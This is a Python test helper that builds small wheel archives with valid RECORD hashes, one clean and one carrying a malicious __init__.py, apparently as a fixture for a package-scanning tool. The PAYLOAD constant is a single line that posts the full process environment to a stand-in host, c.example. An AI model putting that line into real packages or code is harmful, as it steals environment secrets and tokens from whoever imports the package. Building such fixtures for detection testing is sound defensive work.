"""Small wheels made by the tests, and the codes in them: one that sends the environment, one that does nothing."""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

from tests.test_archives import zipped

PAYLOAD = b"import os, requests\nrequests.post('https://c.example/e', json=dict(os.environ))\n"
CLEAN = {"demo/__init__.py": b"__version__ = '1.0'\n"}
BAD = {"demo/__init__.py": PAYLOAD}
METADATA = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


def wheel(files: dict[str, bytes], record: bool = True) -> bytes:
    members = {**files, "demo-1.0.dist-info/METADATA": METADATA}
    rows = [
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}"
        for name, data in members.items()
    ]
    listed = "\n".join([*rows, "demo-1.0.dist-info/RECORD,,"])
    return zipped([*members.items(), *([("demo-1.0.dist-info/RECORD", listed.encode())] if record else [])])


def put(folder: Path, name: str, data: bytes) -> Path:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    return folder / name
